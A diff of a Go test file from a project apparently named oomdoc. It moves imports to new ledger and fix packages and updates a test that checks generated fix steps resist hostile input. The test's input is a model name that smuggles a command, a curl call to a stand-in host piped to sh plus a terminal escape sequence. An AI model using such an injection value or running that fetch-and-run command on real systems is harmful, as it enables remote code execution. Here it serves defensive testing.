@@ -4,13 +4,13 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/oomdoc/oomdoc/parsers/fact"
-
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
 	"github.com/oomdoc/oomdoc/diagnose"
-	"github.com/oomdoc/oomdoc/rules"
+	"github.com/oomdoc/oomdoc/parsers/fact"
+	"github.com/oomdoc/oomdoc/rules/fix"
+	"github.com/oomdoc/oomdoc/rules/ledger"
 )
 
 const (
@@ -138,8 +138,8 @@ func TestLowerQuantIsPlanned(t *testing.T) {
 
 // TestHostileNames: what a log says never becomes a command of its own.
 func TestHostileNames(t *testing.T) {
-	c := &rules.Case{Facts: &fact.Facts{}, Model: rules.NewModel("x'; curl evil | sh #\n\x1b[2J", 1)}
-	for id, f := range rules.Fixes() {
+	c := &ledger.Case{Facts: &fact.Facts{}, Model: ledger.NewModel("x'; curl evil | sh #\n\x1b[2J", 1)}
+	for id, f := range fix.Fixes() {
 		for _, s := range f.Steps(c) {
 			assert.NotContains(t, s.Text, "\x1b", id)
 			if s.Kind == "shell" {
